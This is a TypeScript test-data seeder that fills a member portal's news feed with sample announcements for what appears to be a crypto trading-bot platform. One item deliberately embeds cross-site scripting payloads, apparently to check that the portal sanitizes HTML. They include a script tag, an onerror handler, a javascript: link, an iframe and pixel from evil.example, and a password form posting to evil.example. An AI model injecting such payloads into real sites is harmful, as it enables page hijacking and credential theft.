import { news } from '../data/schema/catalogue';
import { files } from '../data/schema/service';
import { picture } from './picture';
import type { World } from './world';

interface Item {
  title: string;
  body: string;
  image?: string;
  days: number;
}

const paragraphs = (count: number, text: string) => `<p>${text}</p>`.repeat(count);

/** Newest first: short and long items, with lists, tables and images, and one that no portal may show unsanitized. */
const items: Item[] = [
  {
    title: 'Scheduled maintenance this Saturday',
    body: '<p>The platform will be unavailable on <strong>Saturday from 02:00 to 04:00 UTC</strong>. Running bots are not affected.</p><ul><li>Deposits sent meanwhile are found afterwards.</li><li>Withdrawals asked for before are sent as usual.</li></ul>',
    days: 1,
  },
  {
    title: 'Live Select is open',
    body: '<p>From today members can join <em>Live Select</em>, our package for larger live accounts. See <a href="https://example.com/live-select">the conditions</a>.</p>',
    image: 'news-live-select.png',
    days: 9,
  },
  {
    title: 'How to keep your account safe',
    body: '<h3>Three habits</h3><ol><li>Use the authenticator.</li><li>Never share a code, not even with support.</li><li>Check the address before you withdraw.</li></ol>',
    days: 20,
  },
  {
    title: 'Withdrawals are sent twice a day',
    body: '<p>What is asked for before noon UTC is sent the same afternoon, the rest in the night.</p>',
    days: 27,
  },
  {
    title: 'Results of the third quarter',
    body: '<p>The bots closed the quarter with a positive result.</p><table><thead><tr><th>Month</th><th>Result</th></tr></thead><tbody><tr><td>July</td><td>3.1 %</td></tr><tr><td>August</td><td>2.4 %</td></tr><tr><td>September</td><td>2.9 %</td></tr></tbody></table>',
    image: 'news-quarter.png',
    days: 41,
  },
  {
    title: 'Our terms, in full',
    body: `<p>The terms were written anew, in plain words. Nothing changes in what you agreed to.</p>${['Packages', 'Bonuses', 'Withdrawals', 'Support'].map((head) => `<h3>${head}</h3>${paragraphs(4, 'What you buy runs for its term and ends with it. A bonus is paid to the Out Going Wallet on the day after it was earned. An amount on hold is yours again when a withdrawal is rejected.')}`).join('')}`,
    days: 52,
  },
  {
    title: 'New rank: Crown',
    body: '<p>Members with 10,000 matching pairs now reach <b>Crown</b>.</p>',
    days: 75,
  },
  {
    title: 'Meet us in Lagos',
    body: '<p>The regional meeting takes place at the Harbour Hall. Doors open at <b>10:00</b>; seats are given in the order of arrival.</p>',
    image: 'news-lagos.png',
    days: 96,
  },
  {
    title: 'Two numbers on every invoice',
    body: '<p>Invoices now carry the package and the activation number.</p>',
    days: 112,
  },
  {
    title: 'Deposits by USDT TRC20',
    body: '<p>Besides BEP20 you can now deposit USDT by <strong>TRC20</strong>. Each network has its own address.</p>',
    image: 'news-trc20.png',
    days: 130,
  },
  {
    title: 'Results of the second quarter',
    body: '<p>A calm quarter, with a result a little below the first.</p><table><thead><tr><th>Month</th><th>Result</th></tr></thead><tbody><tr><td>April</td><td>2.2 %</td></tr><tr><td>May</td><td>1.9 %</td></tr><tr><td>June</td><td>2.3 %</td></tr></tbody></table>',
    image: 'news-quarter.png',
    days: 138,
  },
  {
    title: 'Support answers in five languages',
    body: '<p>English, French, Portuguese, Hindi and Arabic: <span dir="rtl" lang="ar">نجيب عليك بلغتك</span>.</p>',
    days: 151,
  },
  {
    title: 'What the portal leaves out of a message',
    body: '<p>Only these words remain.</p><script>document.title = "taken over"</script><img src=x onerror="document.title = \'taken over\'"><iframe src="https://evil.example"></iframe><img src="https://evil.example/pixel.gif"><form action="https://evil.example"><input name="password"></form><style>body { display: none }</style><p style="position: fixed; inset: 0">A veil</p><p><a href="javascript:document.title = 1">A link that leads nowhere</a></p>',
    days: 166,
  },
  {
    title: 'The authenticator is here',
    body: '<p>Confirm sign-ins and withdrawals with an app in place of mails. Set it up under <em>My Profile</em>.</p>',
    days: 180,
  },
  {
    title: 'Names of networks, spelled out',
    body: '<p>BEP20 is the BNB Smart Chain, TRC20 is Tron. Money that is sent on another network is lost.</p><blockquote><p>When in doubt, send a small amount first.</p></blockquote>',
    days: 196,
  },
  ...['May', 'April', 'March', 'February', 'January'].map((month, index) => ({
    title: `Bot report of ${month}`,
    body: `<p>All bots traded without interruption in ${month}. The full figures are with your payouts.</p>`,
    days: 205 + index * 30,
  })),
  {
    title: 'A year of matching',
    body: '<p>Members matched more pairs than in any year before.</p><ul><li>Thank you for each of them.</li></ul>',
    image: 'news-lagos.png',
    days: 330,
  },
  {
    title: 'Season’s greetings',
    body: '<p>Support answers a little later between the years.</p>',
    days: 337,
  },
  ...['December', 'November', 'October', 'September'].map((month, index) => ({
    title: `Bot report of ${month}`,
    body: `<p>All bots traded without interruption in ${month}. The full figures are with your payouts.</p>`,
    days: 352 + index * 30,
  })),
  {
    title: 'Binary Tree on phones',
    body: '<p>Your team now fits every screen.</p>',
    days: 460,
  },
  {
    title: 'A first look at the new member portal',
    body: '<p>Everything in one place, on every screen.</p>',
    days: 480,
  },
  {
    title: 'Welcome to the new member portal',
    body: '<p>Everything in one place, on every screen.</p>',
    days: 500,
  },
];

export const newsCount = items.length;

/** Newest last, because ids grow with time. */
export function seedNews(world: World): void {
  const oldestFirst = items.toReversed();
  const drawn = new Set<string>();
  oldestFirst.forEach(({ title, body, image, days }, index) => {
    const publishedAt = world.ago(days, 3);
    // One item is written but hidden (A §3: only shown items are displayed).
    const isShow = index === 0 ? 0 : 1;
    world.add(news, {
      id: index + 1,
      title,
      body,
      image: image ?? null,
      isShow,
      publishedAt,
      createdAt: publishedAt,
    });
    if (!image || drawn.has(image)) return;
    drawn.add(image);
    const bytes = picture(640, 360, [16 + index * 3, 42, 96], [20, 140 - index * 2, 150 + index]);
    world.add(files, { name: image, ownerId: null, type: 'image/png', bytes, createdAt: publishedAt });
  });
}
